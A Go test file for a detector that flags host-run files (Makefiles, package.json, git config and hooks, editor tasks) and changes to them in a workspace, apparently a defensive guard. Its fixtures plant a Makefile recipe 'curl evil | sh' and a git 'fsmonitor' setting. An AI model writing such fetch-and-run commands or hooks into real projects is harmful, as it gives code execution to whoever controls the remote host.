package workspace

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

func TestIsHostRun(t *testing.T) {
	for path, want := range map[string]bool{
		"Makefile": true, "sub/dir/Makefile": true, "build/rules.mk": true, ".envrc": true, "package.json": true,
		"web/package.json": true, ".vscode/tasks.json": true, ".vscode": true, ".github/workflows/ci.yml": true,
		".gitattributes": true, ".gitmodules": true, "nested/.git": true, "nested/.git/config": true, ".bashrc": true,
		".husky/pre-commit": true, ".devcontainer/devcontainer.json": true,
		// Hidden files are flagged as a family, even those that run nothing.
		".github/CODEOWNERS": true, ".vscodeignore": true,
		"main.go": false, "README.md": false, "docs/makefile.md": false, "src/.gitkeep": false,
		"package.json.bak": false,
	} {
		if got := isHostRun(path); got != want {
			t.Errorf("isHostRun(%q) = %v, want %v", path, got, want)
		}
	}
}

func TestHostRunFilesComparesLstatFingerprints(t *testing.T) {
	root := t.TempDir()
	write := func(rel, text string) {
		t.Helper()
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(".git/config", "[core]\n")
	write("Makefile", "all:\n")
	write("package.json", "{}\n")
	write("unchanged/.envrc", "x\n")
	write("main.go", "package main\n")
	before := scanHostRun(root)
	write("Makefile", "all:\n\tcurl evil | sh\n") // changed, same name
	if err := os.Remove(filepath.Join(root, "package.json")); err != nil {
		t.Fatal(err)
	}
	write(".vscode/tasks.json", "{}") // created
	write(".git/config", "[core]\n\tfsmonitor = x\n")
	if err := os.Mkdir(filepath.Join(root, "x"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/", filepath.Join(root, "x", ".git")); err != nil { // never followed
		t.Fatal(err)
	}
	write("main.go", "package main // changed\n")
	after := scanHostRun(root)
	got := hostRunFiles(&before, &after, []string{"main.go", "web/package.json"})
	want := []string{".git/config", ".vscode/tasks.json", "Makefile", "package.json", "web/package.json", "x/.git"}
	if !slices.Equal(got, want) {
		t.Fatalf("host-run files %q, want %q", got, want)
	}
	t.Run("without scans, the changed files that match", func(t *testing.T) {
		if got := hostRunFiles(nil, nil, []string{"main.go", "Makefile"}); !slices.Equal(got, []string{"Makefile"}) {
			t.Fatalf("got %q", got)
		}
	})
}

func TestGitAtWorkInItsDirectoryIsNoHostRunChange(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	before := scanHostRun(root)
	// What `git status` does: a lock file made and renamed over the index.
	lock := filepath.Join(root, ".git", "index.lock")
	if err := os.WriteFile(lock, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(lock, filepath.Join(root, ".git", "index")); err != nil {
		t.Fatal(err)
	}
	after := scanHostRun(root)
	if got := hostRunFiles(&before, &after, nil); len(got) != 0 {
		t.Fatalf("git's own bookkeeping listed as host-run changes: %q", got)
	}
}

// TestTheScanRecognisesGitDirectoriesAsGitDoes: by what is in a directory,
// not by its name; a directory that only looks like one in part is not.
func TestTheScanRecognisesGitDirectoriesAsGitDoes(t *testing.T) {
	root := t.TempDir()
	mk := func(dirs []string, files ...string) {
		for _, d := range dirs {
			if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		for _, f := range files {
			if err := os.WriteFile(filepath.Join(root, f), []byte("x\n"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	mk([]string{".git/objects", ".git/refs", "a/b/objects", "a/b/refs", "linked", "half/objects", "plain"},
		".git/HEAD", "a/b/HEAD", "a/b/config", "linked/HEAD", "linked/commondir", "half/HEAD", "plain/HEAD")
	st := scanHostRun(root)
	for rel, want := range map[string]bool{".git": true, "a/b": true, "linked": true, "half": false, "plain": false, "a": false} {
		if st.gitDirs[rel] != want {
			t.Errorf("%s: a git directory %v, want %v", rel, st.gitDirs[rel], want)
		}
	}
	if _, ok := st.files["a/b/config"]; !ok {
		t.Errorf("the config of a/b is not fingerprinted: %v", st.files)
	}
}
